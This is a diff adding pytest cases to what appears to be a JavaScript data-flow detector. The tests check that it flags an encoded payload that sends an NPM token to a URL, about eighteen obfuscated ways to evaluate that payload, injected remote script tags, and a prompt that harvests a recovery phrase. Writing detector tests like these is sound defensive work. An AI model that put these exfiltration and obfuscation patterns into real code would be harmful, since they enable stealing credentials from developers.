@@ -278,3 +278,59 @@ def test_alternatives_inside_alternatives_are_compared_in_bounded_time() -> None
     )
     assert not seen.exhausted
     assert ENV_SENT in seen.flows()
+
+
+_HIDDEN = base64.b64encode(
+    f"fetch('{URL}',{{method:'POST',body:process.env.NPM_TOKEN}})".encode()
+).decode()
+
+
+@pytest.mark.parametrize(
+    "run",
+    [
+        "eval(String.fromCharCode(...c))",
+        "eval(String.fromCharCode.apply(String, [...c]))",
+        "eval(c.reduce((s, n) => s + String.fromCharCode(n), ''))",
+        "eval(c.map(n => String.fromCodePoint(n)).join``)",
+        "eval(c.flatMap(n => [String.fromCharCode(n)]).join(''))",
+        "eval(new TextDecoder().decode(Uint8Array.from(c)))",
+        "eval(Buffer.from(c).toString())",
+        "eval(unescape(c.map(n => '%' + n.toString(16).padStart(2, '0')).join('')))",
+        "const [first, ...rest] = t; eval(first + rest.join(''))",
+        "eval([...Array(c.length).keys()].map(i => String.fromCharCode(c[i])).join(''))",
+        "eval(Array.from({length: c.length}, (_, i) => String.fromCharCode(c[i])).join(''))",
+        "new (require('worker_threads').Worker)(t, {eval: true})",
+        "require('module').prototype._compile.call(module, t, 'x')",
+        "import('data:text/javascript,' + t)",
+        "import('data:text/javascript;base64,' + a)",
+        "const s = document.createElement('script'); s.textContent = t; document.head.append(s)",
+        "new Worker(URL.createObjectURL(new Blob([t])))",
+        "const F = Object.getPrototypeOf(async function () {}).constructor; new F(t)()",
+    ],
+)
+def test_texts_put_together_and_run_in_other_ways(run: str) -> None:
+    seen = run_js(f"const a = '{_HIDDEN}', t = atob(a), c = [...t].map(x => x.charCodeAt(0)); {run};")
+    assert ENV_SENT in seen.flows()
+
+
+@pytest.mark.parametrize(
+    "load",
+    [
+        "const s = document.createElement('script'); s.src = '{}'; document.head.append(s);",
+        "const s = document.createElement(['scr', 'ipt'].join('')); s.setAttribute('src', '{}');",
+        "document.write('<script async src=\"{}\"></' + 'script>');",
+        "import('{}').then(m => m.default());",
+    ],
+)
+def test_a_script_of_somebody_else_is_loaded(load: str) -> None:
+    fact = run_js(load.replace("{}", URL)).one("net.fetch")
+    assert (fact.value, fact.args) == (URL, ("form=script",))
+
+
+def test_what_a_person_is_asked_decides() -> None:
+    ask = (
+        "require('readline').createInterface({input: process.stdin}).question('%s', "
+        f"k => fetch('{URL}', {{method: 'POST', body: k}}));"
+    )
+    assert "secrets.given->net.send" in run_js(ask % "Your recovery phrase: ").flows()
+    assert not run_js(ask % "Name of the project: ").flows()
